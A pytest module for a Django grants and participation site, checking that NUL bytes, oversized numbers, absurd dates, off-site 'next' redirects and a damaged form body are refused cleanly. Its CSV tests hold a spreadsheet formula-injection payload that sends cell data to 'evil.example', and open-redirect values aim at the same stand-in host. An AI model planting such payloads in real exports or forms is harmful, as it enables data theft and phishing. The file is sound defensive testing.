"""No input gives a 500: NUL bytes, numbers too large for their column, years and dates outside
sense, a ``next`` that is not a path, and spreadsheet formulas in the open-data CSV.

Every test here runs in both runs of the suite. NUL bytes fail only on PostgreSQL (SQLite stores
them), so the PostgreSQL run is the one that proves the NUL tests; the rest fail on both
databases without the fixes (a number too large for an integer column is refused by PostgreSQL
on save and silently stored by SQLite, which then hands it to every sum and letter).
"""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.core.files.base import ContentFile
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone, translation

from grants import services
from grants.models import (
    Assessment,
    CaseMessage,
    CostLine,
    Decision,
    FinalReport,
    GrantApplication,
    GrantRound,
    Organisation,
    Payment,
    Recommendation,
)
from participation.models import Registration
from projects.models import BudgetLine, Project
from tests.accounts.factories import UserFactory
from tests.grants.factories import (
    MINIMAL_PDF,
    GrantRoundFactory,
    OrganisationFactory,
    decided,
    submitted,
)
from tests.participation.factories import EventFactory, RegistrationFactory
from tests.projects.factories import ProjectFactory

pytestmark = pytest.mark.django_db

TOO_BIG = 2_147_483_648  # one more than a PostgreSQL integer column holds
NUL = "\x00"


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def text(response) -> str:
    return response.content.decode().replace("\xa0", " ")


def field_error(html: str, field_id: str) -> str:
    match = re.search(rf'id="{field_id}_error">(.*?)</div>', html, re.S)
    assert match, f"no error shown on {field_id}"
    return match.group(1)


# --- NUL bytes ----------------------------------------------------------------------------------


def _patterns(resolver: URLResolver, prefix: str = ""):
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            yield from _patterns(entry, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern):
            yield prefix + str(entry.pattern), entry


def text_kwarg_routes() -> list[str]:
    """Every route whose address carries a free-text part (a token, a key, a step name, an
    admin object id): where a NUL byte in a link would reach a query."""
    routes = []
    for route, entry in _patterns(get_resolver()):
        converters = getattr(entry.pattern, "converters", {})
        free_text = any(
            type(c).__name__ in ("StringConverter", "PathConverter") for c in converters.values()
        )
        if free_text or re.search(r"\(\?P<\w+>\.[+*]\)", route):
            routes.append(route)
    return sorted(set(routes))


def _fill(route: str, value: str) -> str:
    """``route`` as an address: every text part ``value``, every number 1, every slug ``x``."""
    path = re.sub(r"\(\?P<uidb36>[^)]*\)", "1", route)
    path = re.sub(r"\(\?P<app_label>[^)]*\)", "grants", path)
    path = re.sub(r"\(\?P<\w+>[^)]*\)", value, path)
    path = re.sub(r"<int:\w+>", "1", path)
    path = re.sub(r"<slug:\w+>", "x", path)
    path = re.sub(r"<(?:str|path):\w+>|<\w+>", value, path)
    return "/" + path.replace("^", "").replace("$", "").replace("\\Z", "")


def test_every_token_link_is_found_by_the_route_walk():
    routes = text_kwarg_routes()
    # The secret links of the emails: a registration, an invitation, a password reset.
    assert any("pamelding/<str:token>/" in r for r in routes)
    assert any("invitasjon/<str:token>/" in r for r in routes)
    assert any("password/reset/key/" in r for r in routes)
    assert _fill("accounts/^password/reset/key/(?P<uidb36>[0-9A-Za-z]+)-(?P<key>.+)/$", "k") == (
        "/accounts/password/reset/key/1-k/"
    )


@pytest.mark.parametrize("route", text_kwarg_routes())
def test_a_nul_byte_in_a_link_is_not_found(client, users, route):
    """Signed in as staff, so a page that would look the token up does."""
    client.force_login(users["programme_leader"])
    response = client.get(_fill(route, "abc%00def"))
    assert response.status_code == 404
    assert "Fant ikke siden" in text(response)


@pytest.mark.parametrize(
    "path", ["/accounts/confirm-email/abc%00def/", "/accounts/password/reset/key/1-abc%00/"]
)
def test_a_nul_byte_in_an_account_key_is_not_found(client, path):
    assert client.get(path).status_code == 404


def test_a_nul_byte_in_a_registration_token_is_404_for_a_guest(client):
    registration = RegistrationFactory()
    for suffix in ("", "bekreft/", "avmeld/"):
        url = reverse("participation:registration_status", args=[registration.token])
        url = url.replace(registration.token, registration.token + "%00") + suffix
        assert client.get(url).status_code == 404
        assert client.post(url, {}).status_code == 404
    registration.refresh_from_db()
    assert registration.status == Registration.Status.CONFIRMED


QUERY_PAGES = [
    ("participation:events", {"omrade": NUL, "type": "x"}),
    ("participation:input_create", {"omrade": NUL, "prosjekt": NUL, "arrangement": NUL}),
    ("participation:input_thanks", {"omrade": NUL}),
    ("participation:staff_events", {"area": NUL}),
    ("participation:staff_inputs", {"event": NUL}),
    ("participation:staff_input_create", {"omrade": NUL, "arrangement": NUL, "prosjekt": NUL}),
    ("participation:staff_inputs_csv", {"area": NUL}),
    ("projects:staff_list", {"q": NUL}),
    ("grants:staff_queue", {"round": NUL, "status": NUL}),
    ("grants:organisation_create", {"next": "/" + NUL}),
    ("home", {NUL: "1"}),
]


@pytest.mark.parametrize(("name", "query"), QUERY_PAGES, ids=[n for n, _ in QUERY_PAGES])
def test_a_nul_byte_in_a_query_parameter_is_a_clear_400(client, users, name, query):
    client.force_login(users["programme_leader"])
    response = client.get(reverse(name), query)
    assert response.status_code == 400
    assert "contains an invisible control character (a NUL byte)" in text(response)
    assert "Nothing was saved" in text(response)


def test_the_nul_page_is_in_norwegian_by_default(client):
    with translation.override("nb"):
        response = client.get(reverse("participation:events"), {"omrade": NUL})
    assert response.status_code == 400
    assert "Ingenting ble lagret" in text(response)


def test_every_page_refuses_a_nul_byte_in_its_query_string(client, users):
    """Whatever the view does with its parameters, none of them reaches it."""
    client.force_login(users["secretariat"])
    failures = []
    for route, _entry in _patterns(get_resolver()):
        path = _fill(route, "x")
        response = client.get(path, {"q": NUL})
        if response.status_code != 400:
            failures.append((path, response.status_code))
    assert not failures


def test_a_nul_byte_in_a_form_field_writes_nothing(client):
    event = EventFactory()
    url = reverse("participation:event_register", args=[event.slug])
    response = client.post(url, {"name": "Kari" + NUL, "email": "kari@example.org", "people": 1})
    assert response.status_code == 400
    assert not Registration.objects.exists()


def test_a_nul_byte_in_an_organisation_form_writes_nothing(client):
    user = UserFactory()
    client.force_login(user)
    data = organisation_data(name="Borettslaget" + NUL)
    response = client.post(reverse("grants:organisation_create"), data)
    assert response.status_code == 400
    assert not Organisation.objects.exists()


def test_a_nul_byte_in_the_session_cookie_is_no_session(client, settings):
    client.cookies[settings.SESSION_COOKIE_NAME] = "abcdefgh" + NUL + "ijkl"
    response = client.get(reverse("home"))
    assert response.status_code == 200
    assert "Log in" in text(response)


# --- Numbers too large for their column ---------------------------------------------------------


def organisation_data(**overrides) -> dict:
    return {
        "name": "Borettslaget Sletteløkka",
        "org_number": "923609016",
        "account_number": "86011117947",
        "kind": "borettslag",
        "address": "Sletteløkka 10",
        "postcode": "0597",
        "city": "Oslo",
        "email": "styret@example.org",
    } | overrides


@pytest.fixture
def applicant():
    return UserFactory()


@pytest.fixture
def draft(client, applicant):
    client.force_login(applicant)
    organisation = OrganisationFactory(member=applicant)
    return services.application_start(
        actor=applicant, grant_round=GrantRoundFactory(), organisation=organisation
    )


def step_url(application, step: str) -> str:
    return reverse("grants:application_step", args=[application.pk, step])


def budget_data(lines, **overrides) -> dict:
    data = {
        "lines-TOTAL_FORMS": str(len(lines)),
        "lines-INITIAL_FORMS": "0",
        "own_contribution": "50000",
        "other_funding": "10000",
        "amount_applied": "40000",
        "dugnad_hours": "120",
        "action": "continue",
    }
    for i, (description, amount) in enumerate(lines):
        data[f"lines-{i}-description"] = description
        data[f"lines-{i}-amount"] = str(amount)
    return data | overrides


def test_a_cost_line_too_large_is_refused_at_its_field(client, draft):
    data = budget_data([("Lekeapparater", 70_000), ("Dekke", TOO_BIG)])
    response = client.post(step_url(draft, "budsjett"), data)
    assert response.status_code == 400
    html = text(response)
    assert "The amount is too large. Enter at most 2,147,483,647 kr." in field_error(
        html, "id_lines-1-amount"
    )
    assert 'href="#id_lines-1-amount"' in html
    assert f'value="{TOO_BIG}"' in html and 'value="Lekeapparater"' in html
    assert not CostLine.objects.filter(application=draft).exists()


@pytest.mark.parametrize("name", ["own_contribution", "other_funding", "amount_applied"])
def test_a_budget_figure_too_large_is_refused_at_its_field(client, draft, name):
    data = budget_data([("Lekeapparater", 70_000)], **{name: str(TOO_BIG)})
    response = client.post(step_url(draft, "budsjett"), data)
    assert response.status_code == 400
    assert "The amount is too large" in field_error(text(response), f"id_{name}")
    draft.refresh_from_db()
    assert getattr(draft, name) == 0


def test_dugnad_hours_too_large_are_refused_as_a_number(client, draft):
    data = budget_data([("Lekeapparater", 70_000)], dugnad_hours=str(TOO_BIG))
    response = client.post(step_url(draft, "budsjett"), data)
    assert response.status_code == 400
    assert "The number is too large. Enter at most 2,147,483,647." in field_error(
        text(response), "id_dugnad_hours"
    )


def test_the_limit_is_said_in_norwegian(client, draft):
    data = budget_data([("Lekeapparater", TOO_BIG)])
    with translation.override("nb"):
        response = client.post(step_url(draft, "budsjett"), data)
    assert "Beløpet er for stort. Skriv høyst 2 147 483 647 kr." in field_error(
        text(response), "id_lines-0-amount"
    )


def taken(handler) -> GrantApplication:
    application = submitted()
    services.case_take(actor=handler, application=application)
    services.impartiality_declare(actor=handler, application=application, impartial=True)
    return application


def case_url(application, action: str) -> str:
    return reverse(f"grants:case_{action}", kwargs={"pk": application.pk})


def test_an_assessment_amount_too_large_is_refused_at_its_field(client, users):
    handler = users["case_handler"]
    application = taken(handler)
    client.force_login(handler)
    response = client.post(
        case_url(application, "assess"),
        {
            "assess-recommendation": Recommendation.PARTIAL,
            "assess-recommended_amount": str(TOO_BIG),
            "assess-internal_notes": "Ring styreleder.",
        },
    )
    assert response.status_code == 400
    html = text(response)
    assert "The amount is too large" in field_error(html, "id_assess-recommended_amount")
    assert "Ring styreleder." in html
    assert not Assessment.objects.exists()


def test_a_decision_amount_too_large_is_refused_at_its_field(client, users):
    from tests.grants.factories import assessed

    application = assessed(users["case_handler"])
    leader = users["programme_leader"]
    services.impartiality_declare(actor=leader, application=application, impartial=True)
    client.force_login(leader)
    response = client.post(
        case_url(application, "decide"),
        {"decide-outcome": Recommendation.PARTIAL, "decide-amount": str(TOO_BIG)},
    )
    assert response.status_code == 400
    assert "The amount is too large" in field_error(text(response), "id_decide-amount")
    assert not Decision.objects.exists()


def accepted(users) -> GrantApplication:
    """Decided and accepted, the letter marked ready without rendering a PDF."""
    application = decided(users["case_handler"], users["programme_leader"])
    decision = application.decisions.get(superseded_by__isnull=True)
    decision.letter.save(f"vedtak-{decision.pk}.pdf", ContentFile(MINIMAL_PDF), save=False)
    decision.letter_status = Decision.LetterStatus.READY
    decision.notified_at = timezone.now()
    decision.appeal_deadline = timezone.localdate() + timedelta(weeks=3)
    decision.save()
    GrantApplication.objects.filter(pk=application.pk).update(
        accept_by=timezone.localdate() + timedelta(days=28)
    )
    applicant = application.applicant
    services.grant_accept(actor=applicant, application=application)
    application.refresh_from_db()
    application.applicant = applicant
    return application


def test_a_final_report_cost_too_large_is_refused_at_its_field(client, users):
    application = accepted(users)
    lines = list(application.cost_lines.all())
    client.force_login(application.applicant)
    data = {
        "what_was_done": "Lekeplassen ble bygget på dugnad.",
        "participants": str(TOO_BIG),
        "dugnad_hours": "140",
        f"actual_{lines[0].pk}": str(TOO_BIG),
        f"actual_{lines[1].pk}": "28000",
    }
    response = client.post(reverse("grants:report_submit", args=[application.pk]), data)
    assert response.status_code == 400
    html = text(response)
    assert "The amount is too large" in field_error(html, f"id_actual_{lines[0].pk}")
    assert "The number is too large" in field_error(html, "id_participants")
    assert "Lekeplassen ble bygget på dugnad." in html
    assert not FinalReport.objects.exists()


def test_a_payment_too_large_or_on_a_date_outside_sense_is_refused(client, users):
    application = accepted(users)
    client.force_login(users["case_handler"])
    url = case_url(application, "payment")
    today = timezone.localdate()
    response = client.post(
        url, {"payment-amount": str(TOO_BIG), "payment-paid_on": today.isoformat()}
    )
    assert response.status_code == 400
    assert "The amount is too large" in field_error(text(response), "id_payment-amount")

    response = client.post(url, {"payment-amount": "10000", "payment-paid_on": "9999-12-31"})
    assert response.status_code == 400
    message = field_error(text(response), "id_payment-paid_on")
    assert f"The date is too late. Choose {today:%d.%m.%Y} or earlier." in message

    response = client.post(url, {"payment-amount": "10000", "payment-paid_on": "0001-01-01"})
    assert response.status_code == 400
    assert "The date is too early" in field_error(text(response), "id_payment-paid_on")
    assert not Payment.objects.exists()


@pytest.mark.parametrize("reply_by", ["0001-01-01", "9999-12-31", "2001-01-01"])
def test_an_information_request_due_outside_sense_is_refused(client, users, reply_by):
    handler = users["case_handler"]
    application = taken(handler)
    client.force_login(handler)
    response = client.post(
        case_url(application, "info_request"),
        {"info_request-body": "Send oss tilbudet.", "info_request-reply_by": reply_by},
    )
    assert response.status_code == 400
    html = text(response)
    assert "The date is too" in field_error(html, "id_info_request-reply_by")
    assert "Send oss tilbudet." in html
    assert not CaseMessage.objects.filter(application=application).exists()
    application.refresh_from_db()
    assert application.status != GrantApplication.Status.AWAITING_INFO


def test_a_round_with_dates_and_figures_outside_sense_is_refused(client, users):
    client.force_login(users["secretariat"])
    count = GrantRound.objects.count()
    response = client.post(
        reverse("grants:staff_round_create"),
        {
            "title": "Høst 9999",
            "slug": "host-9999",
            "year": "2026",
            "opens_at": "0001-01-01T00:00",
            "closes_at": "9999-12-31T23:59",
            "budget": str(TOO_BIG),
            "min_own_share_percent": "99999",
            "report_deadline": "9999-12-31",
        },
    )
    assert response.status_code in (200, 400)
    html = text(response)
    assert "The date is too early" in field_error(html, "id_opens_at")
    assert "The date is too late" in field_error(html, "id_closes_at")
    assert "The date is too late" in field_error(html, "id_report_deadline")
    assert "The amount is too large" in field_error(html, "id_budget")
    assert "The number is too large" in field_error(html, "id_min_own_share_percent")
    assert GrantRound.objects.count() == count


def test_a_measure_dated_far_ahead_is_refused(client, draft):
    from areas.models import Area, SubGoal

    data = {
        "title": "Ny lekeplass",
        "description": "Lekeapparater i bakgården.",
        "sub_goal": SubGoal.objects.get(number=2).pk,
        "area": Area.objects.get(slug="veitvet-og-slettelokka").pk,
        "location": "Bakgården",
        "on_own_property": "on",
        "target_group": "Barnefamilier",
        "expected_participants": str(TOO_BIG),
        "resident_involvement": "Beboermøte med 30 deltakere.",
        "start_date": timezone.localdate().isoformat(),
        "end_date": "9999-12-31",
        "action": "continue",
    }
    response = client.post(step_url(draft, "tiltak"), data)
    assert response.status_code == 400
    html = text(response)
    assert "The date is too late" in field_error(html, "id_end_date")
    assert "The number is too large" in field_error(html, "id_expected_participants")
    draft.refresh_from_db()
    assert draft.end_date is None and draft.title == ""

    data.update(start_date="0001-01-01", end_date="", expected_participants="40")
    response = client.post(step_url(draft, "tiltak"), data)
    assert response.status_code == 400
    assert "Measures that have already started cannot get a grant" in field_error(
        text(response), "id_start_date"
    )


# --- Projects: the year filter, budgets and dates -----------------------------------------------


@pytest.mark.parametrize("year", ["-5", "0", "99999", "2026.5", "abc", "1e9"])
def test_the_staff_project_list_says_what_is_wrong_with_the_year(client, users, year):
    ProjectFactory(title="Sletteløkka torg")
    client.force_login(users["project_leader"])
    response = client.get(reverse("projects:staff_list"), {"year": year})
    assert response.status_code == 200
    html = text(response)
    error = field_error(html, "id_year")
    assert "Enter a year" in error
    assert "Sletteløkka torg" in html  # the rest of the filter still applies


def test_the_staff_project_list_filters_by_a_real_year(client, users):
    today = timezone.localdate()
    ProjectFactory(title="Nå", start_date=today, end_date=today)
    ProjectFactory(title="Før", start_date=today.replace(year=2010), end_date=today.replace(2011))
    client.force_login(users["project_leader"])
    html = text(client.get(reverse("projects:staff_list"), {"year": str(today.year)}))
    assert "Nå" in html and "Før" not in html


def test_a_project_budget_too_large_and_a_date_outside_sense_are_refused(client, users):
    project = ProjectFactory()
    client.force_login(users["project_leader"])
    response = client.post(
        reverse("projects:budget_set", args=[project.slug]),
        {
            "budget-year": "2026",
            "budget-source": BudgetLine.Source.AREA_FUNDS,
            "budget-planned": "1000000000000",
            "budget-spent": "0",
        },
    )
    assert response.status_code == 400
    assert "The amount is too large. Enter at most 999,999,999,999 kr." in field_error(
        text(response), "id_budget-planned"
    )
    assert not BudgetLine.objects.filter(project=project).exists()

    response = client.post(
        reverse("projects:milestone_add", args=[project.slug]),
        {"milestone-title": "Åpning", "milestone-due_date": "9999-12-31"},
    )
    assert response.status_code == 400
    assert "The date is too late" in field_error(text(response), "id_milestone-due_date")
    assert not project.milestones.exists()


def test_a_project_dated_outside_sense_is_refused(client, users):
    project = ProjectFactory()
    client.force_login(users["project_leader"])
    response = client.get(reverse("projects:staff_edit", args=[project.slug]))
    form = response.context["form"]
    data = {
        name: value
        for name, value in form.initial.items()
        if value is not None and not isinstance(value, list)
    }
    data["sub_goals"] = [g.pk for g in form.initial.get("sub_goals", [])] or [
        form.fields["sub_goals"].queryset.first().pk
    ]
    data["area"] = project.area_id
    data.update(start_date="0001-01-01", end_date="9999-12-31")
    response = client.post(reverse("projects:staff_edit", args=[project.slug]), data)
    html = text(response)
    assert "The date is too early" in field_error(html, "id_start_date")
    assert "The date is too late" in field_error(html, "id_end_date")
    project.refresh_from_db()
    assert project.start_date is None or project.start_date.year > 1


@pytest.mark.parametrize(
    ("name", "query"),
    [
        ("projects:staff_list", {"side": "²"}),
        ("grants:staff_queue", {"due_before": "0001-01-01", "assignee": "99999999999999999999"}),
        ("grants:staff_queue", {"due_before": "9999-12-31", "side": "-1"}),
        ("participation:staff_input_create", {"lagret": "²"}),
        ("participation:staff_input_create", {"lagret": "99999999999999999999"}),
        ("participation:events", {"omrade": "finnes-ikke", "type": "²"}),
    ],
)
def test_numbers_and_dates_in_query_parameters_never_give_a_500(client, users, name, query):
    client.force_login(users["programme_leader"])
    assert client.get(reverse(name), query).status_code in (200, 400)


def test_more_cost_rows_with_an_odd_count_is_no_500(client, draft):
    response = client.get(step_url(draft, "budsjett"), {"rader": "²"})
    assert response.status_code == 200
    data = budget_data([("Lekeapparater", 70_000)], action="more_lines")
    data["lines-TOTAL_FORMS"] = "²"
    assert client.post(step_url(draft, "budsjett"), data).status_code in (200, 302, 400)


# --- next= after registering an organisation ----------------------------------------------------


@pytest.mark.parametrize(
    "next_url", ["tilskudd", "grants:rounds", "https://evil.example/", "//evil.example/", "/a\nb"]
)
def test_an_odd_next_after_registering_an_organisation_goes_to_the_organisation(client, next_url):
    user = UserFactory()
    client.force_login(user)
    response = client.post(reverse("grants:organisation_create"), organisation_data(next=next_url))
    organisation = Organisation.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("grants:organisation_detail", args=[organisation.pk])


def test_a_next_on_this_site_is_followed_after_registering(client):
    user = UserFactory()
    client.force_login(user)
    target = reverse("grants:rounds")
    response = client.post(reverse("grants:organisation_create"), organisation_data(next=target))
    assert response["Location"] == target
    assert Organisation.objects.count() == 1


# --- The open-data CSV --------------------------------------------------------------------------


def test_the_open_data_csv_runs_no_formula_in_a_spreadsheet(client):
    ProjectFactory(
        title='=HYPERLINK("https://evil.example/?"&A1,"Klikk")',
        summary="+47 22 00 00 00",
        status=Project.Status.ONGOING,
        is_public=True,
    )
    response = client.get(reverse("projects:open_data_csv"))
    content = response.content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content)))
    row = next(r for r in rows if "HYPERLINK" in r["title"])
    assert row["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Klikk")'
    assert row["summary"] == "'+47 22 00 00 00"
    # Numbers stay numbers.
    assert row["budget_planned_nok"].lstrip("-").isdigit()
    # The JSON is data for programs, not spreadsheets: it keeps the text as written.
    data = client.get(reverse("projects:open_data_json")).json()
    assert any(p["title"].startswith("=HYPERLINK") for p in data["projects"])


def test_the_staff_csv_and_the_open_data_share_one_cell_rule():
    from core.csv import spreadsheet_cell

    for dangerous in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1"):
        assert spreadsheet_cell(dangerous).startswith("'")
    assert spreadsheet_cell(-5) == "-5"
    assert spreadsheet_cell(None) == ""
    assert spreadsheet_cell("Sletteløkka") == "Sletteløkka"


# --- Participation: attendance counts and event times -------------------------------------------


def test_an_attendance_count_too_large_is_refused_at_its_field(client, users):
    from participation.models import Event

    starts = timezone.now() - timedelta(days=2)
    event = EventFactory(starts_at=starts, ends_at=starts + timedelta(hours=2))
    client.force_login(users["project_leader"])
    response = client.post(
        reverse("participation:staff_attendance", args=[event.slug]),
        {"attendance-total": str(TOO_BIG), "attendance-group_eldre": str(TOO_BIG)},
    )
    assert response.status_code == 400
    html = text(response)
    assert "The number is too large" in field_error(html, "id_attendance-total")
    assert "The number is too large" in field_error(html, "id_attendance-group_eldre")
    assert Event.objects.get(pk=event.pk).attendance_total is None


def test_an_event_at_a_time_outside_sense_is_refused(client, users):
    from participation.models import Event
    from tests.participation.factories import area

    client.force_login(users["project_leader"])
    count = Event.objects.count()
    response = client.post(
        reverse("participation:staff_event_create"),
        {
            "title": "Trygghetsvandring",
            "description": "Vi går sammen.",
            "kind": Event.Kind.SAFETY_WALK,
            "areas": [area().pk],
            "starts_at": "0001-01-01T00:00",
            "ends_at": "9999-12-31T23:59",
            "place": "Sletteløkka torg",
            "participation_step": "2",
            "capacity": str(TOO_BIG),
            "registration": Event.Registration.OPEN,
            "organiser": "Bydel Bjerke",
        },
    )
    assert response.status_code == 400
    html = text(response)
    assert "The date is too early" in field_error(html, "id_starts_at")
    assert "The date is too late" in field_error(html, "id_ends_at")
    assert "The number is too large" in field_error(html, "id_capacity")
    assert Event.objects.count() == count


def test_a_damaged_form_body_is_a_clear_400(client):
    event = EventFactory()
    response = client.generic(
        "POST",
        reverse("participation:event_register", args=[event.slug]),
        b"name=Kari",
        content_type="multipart/form-data",  # a multipart body without its boundary
    )
    assert response.status_code == 400
    assert "The form arrived damaged" in text(response)
    assert not Registration.objects.exists()
